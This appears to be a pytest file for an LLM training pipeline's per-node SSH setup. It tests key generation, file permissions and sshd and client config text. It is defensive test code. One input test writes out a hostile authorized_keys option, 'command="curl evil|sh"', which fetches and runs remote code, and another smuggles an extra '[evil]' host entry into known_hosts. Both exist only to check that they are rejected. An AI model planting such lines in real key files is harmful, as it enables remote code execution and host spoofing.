"""Per-node SSH: real keys from ssh-keygen, file modes, config texts; ssh and sshd read them.

sshd is started for real in tests/launch/test_deepspeed_nodes.py and the two-node harness;
here sshd only checks the config it would read (`sshd -t`).
"""

from __future__ import annotations

import os
import shutil
import socket
import stat
import subprocess
from pathlib import Path

import pytest

from llm_pipeline.errors import TrainError
from llm_pipeline.launch.ssh import (
    SshFiles,
    authorize,
    make_key,
    node_files,
    public_key,
    remove_client_config,
    ssh_client_config_text,
    sshd_command,
    sshd_config_text,
    trust_hosts,
    wait_listening,
    write_client_config,
    write_sshd_config,
)

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs OpenSSH")

HOSTS = ("primary-0", "workers-0")
MARK = "# Written by llm-pipeline for one training job; its keys were made when the job ran."
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIN/go5Fch9NyHt5ISCy7k1/+pC2ZWrpWRmHsOtqJPnsM"
SSHD = Path("/usr/sbin/sshd")


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def files(tmp_path: Path) -> SshFiles:
    return node_files(tmp_path / "home" / ".llm-pipeline-ssh" / "node0")


def test_keys_are_made_once_on_the_node_privately(files: SshFiles):
    user = make_key(files.identity_file, comment="job-123")
    host = make_key(files.host_key)
    assert mode(files.folder) == 0o700
    assert {p.name: mode(p) for p in files.folder.iterdir()} == {
        "id_ed25519": 0o600,
        "id_ed25519.pub": 0o644,
        "ssh_host_ed25519_key": 0o600,
        "ssh_host_ed25519_key.pub": 0o644,
    }
    # The public key's line, without its comment; the private key is the one it belongs to.
    assert user != host and user.startswith("ssh-ed25519 ") and len(user.split()) == 2
    derived = subprocess.run(
        ["ssh-keygen", "-y", "-f", str(files.identity_file)],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()[:2]
    assert " ".join(derived) == user
    with pytest.raises(FileExistsError, match="each node makes its own keys once"):
        make_key(files.host_key)


@pytest.mark.parametrize(
    "text",
    [
        f'command="curl evil|sh" {KEY}',  # an authorized_keys option in front
        f"{KEY}\n{KEY.replace('AAAAIN', 'AAAAIM')}",  # a second key on a second line
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ",
        KEY[:-1],
        None,
        {"key": KEY},
    ],
)
def test_a_public_key_from_the_shared_folder_is_one_bare_ed25519_key(text: object):
    assert public_key(f"{KEY} root@vm\n", what="x") == KEY
    with pytest.raises(ValueError, match=r"^node 1's host key: not one ed25519 public key"):
        public_key(text, what="node 1's host key")


def test_authorize_and_trust_hosts_write_only_checked_keys(files: SshFiles):
    authorize(files, f"{KEY} the-primary")
    assert files.authorized_keys.read_text() == f"{KEY}\n"
    assert mode(files.authorized_keys) == 0o600
    trust_hosts(files, {"primary-0": KEY, "workers-0": KEY}, port=2022)
    assert files.known_hosts.read_text() == (f"[primary-0]:2022 {KEY}\n[workers-0]:2022 {KEY}\n")
    with pytest.raises(ValueError, match=r"^host key of workers-0: not one ed25519"):
        trust_hosts(files, {"workers-0": f"{KEY}\n[evil]:22 {KEY}"}, port=2022)
    files.authorized_keys.chmod(0o644)
    authorize(files, KEY)
    assert mode(files.authorized_keys) == 0o600


def test_sshd_config_text(tmp_path: Path):
    files = _files(tmp_path)
    assert sshd_config_text(
        files, port=2022, user="root", session_env={"LLM_PIPELINE_NODE_DIR": "/root/x"}
    ) == (
        f"{MARK}\n"
        "Port 2022\n"
        f"HostKey {tmp_path}/ssh_host_ed25519_key\n"
        f"AuthorizedKeysFile {tmp_path}/authorized_keys\n"
        f"PidFile {tmp_path}/sshd.pid\n"
        "AllowUsers root\n"
        "PubkeyAuthentication yes\n"
        "PasswordAuthentication no\n"
        "KbdInteractiveAuthentication no\n"
        "PermitRootLogin prohibit-password\n"
        "StrictModes yes\n"
        "UsePAM no\n"
        "X11Forwarding no\n"
        "AllowTcpForwarding no\n"
        "PermitUserEnvironment no\n"
        "PrintMotd no\n"
        "SetEnv LLM_PIPELINE_NODE_DIR=/root/x\n"
    )
    with pytest.raises(ValueError, match="cannot go into sshd's SetEnv unquoted"):
        sshd_config_text(files, port=2022, user="root", session_env={"A": "b c"})
    with pytest.raises(ValueError, match="port: must be a TCP port"):
        sshd_config_text(files, port=0, user="root", session_env={})


@pytest.mark.skipif(not SSHD.is_file() or os.getuid() != 0, reason="needs sshd, as root")
def test_sshd_accepts_the_config_it_is_given(files: SshFiles):
    make_key(files.host_key)
    authorize(files, KEY)
    write_sshd_config(files, port=2022, user="root", session_env={"LLM_PIPELINE_NODE_DIR": "/x"})
    assert mode(files.sshd_config) == 0o600
    check = subprocess.run(
        [str(SSHD), "-t", "-f", str(files.sshd_config)], capture_output=True, text=True
    )
    assert check.returncode == 0, check.stderr


def _sshd(files: SshFiles, port: int) -> subprocess.Popen[bytes]:
    write_sshd_config(files, port=port, user="root", session_env={})
    Path("/run/sshd").mkdir(parents=True, exist_ok=True)  # Debian's sshd insists on it
    return subprocess.Popen(sshd_command(files.sshd_config), stderr=subprocess.DEVNULL)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.mark.skipif(not SSHD.exists(), reason="needs sshd")
def test_a_started_sshd_is_waited_for_until_it_takes_connections(files: SshFiles):
    """A node says its sshd is up when `wait_listening` returns: a connection then succeeds
    at once, not after the bind."""
    make_key(files.host_key)
    authorize(files, KEY)
    port = _free_port()
    process = _sshd(files, port)
    try:
        wait_listening(process, port, timeout_s=30)
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
    finally:
        process.terminate()
        process.wait(timeout=30)


@pytest.mark.skipif(not SSHD.exists(), reason="needs sshd")
def test_an_sshd_that_exits_before_it_listens_is_named_with_its_exit_code(files: SshFiles):
    authorize(files, KEY)  # and no host key: sshd refuses to start
    port = _free_port()
    process = _sshd(files, port)
    with pytest.raises(
        TrainError, match=rf"sshd exited with code \d+ before it listened on port {port}"
    ):
        wait_listening(process, port, timeout_s=30)


def test_client_config_text(tmp_path: Path):
    files = _files(tmp_path)
    assert ssh_client_config_text(files, hosts=HOSTS, port=2022, user="root") == (
        f"{MARK}\n"
        "Host primary-0 workers-0\n"
        "    Port 2022\n"
        "    User root\n"
        f"    IdentityFile {tmp_path}/id_ed25519\n"
        "    IdentitiesOnly yes\n"
        f"    UserKnownHostsFile {tmp_path}/known_hosts\n"
        "    StrictHostKeyChecking yes\n"
        "    BatchMode yes\n"
    )


def test_ssh_reads_the_client_config_for_job_hosts_only(files: SshFiles):
    write_client_config(files, hosts=HOSTS, port=2022, user="root")
    assert mode(files.client_config) == 0o600

    def effective(host: str) -> dict[str, str]:
        out = subprocess.run(
            ["ssh", "-G", "-F", str(files.client_config), host],
            check=True,
            capture_output=True,
            text=True,
        ).stdout
        wanted = ("port", "user", "identityfile", "stricthostkeychecking", "batchmode")
        settings = dict(line.split(" ", 1) for line in out.splitlines() if " " in line)
        return {key: settings[key] for key in wanted}

    assert effective("workers-0") == {
        "port": "2022",
        "user": "root",
        "identityfile": str(files.identity_file),
        "stricthostkeychecking": "true",
        "batchmode": "yes",
    }
    assert effective("elsewhere.example.com")["port"] == "22"


def test_a_foreign_client_config_is_neither_replaced_nor_removed(tmp_path: Path):
    theirs = tmp_path / "dot-ssh" / "config"
    theirs.parent.mkdir()
    theirs.write_text("Host github.com\n    User git\n")
    files = node_files(tmp_path / "local", client_config=theirs)
    with pytest.raises(FileExistsError, match="was not written by llm-pipeline"):
        write_client_config(files, hosts=HOSTS)
    remove_client_config(files)
    assert theirs.read_text() == "Host github.com\n    User git\n"
    ours = node_files(tmp_path / "local", client_config=tmp_path / "dot-ssh" / "ours")
    write_client_config(ours, hosts=HOSTS, user="root")
    write_client_config(ours, hosts=HOSTS, user="root")
    assert ours.client_config.read_text().startswith(MARK)
    remove_client_config(ours)
    assert not ours.client_config.exists()
    with pytest.raises(ValueError, match="hosts: need every node's hostname"):
        write_client_config(ours, hosts=())


def test_sshd_command(tmp_path: Path):
    config = tmp_path / "sshd_config"
    assert sshd_command(config) == ["/usr/sbin/sshd", "-D", "-e", "-f", str(config)]
    with pytest.raises(ValueError, match="sshd: must be an absolute path"):
        sshd_command(config, sshd="sshd")


def _files(folder: Path) -> SshFiles:
    return SshFiles(
        folder=folder,
        identity_file=folder / "id_ed25519",
        authorized_keys=folder / "authorized_keys",
        host_key=folder / "ssh_host_ed25519_key",
        known_hosts=folder / "known_hosts",
        sshd_config=folder / "sshd_config",
        client_config=folder / "ssh_config",
    )
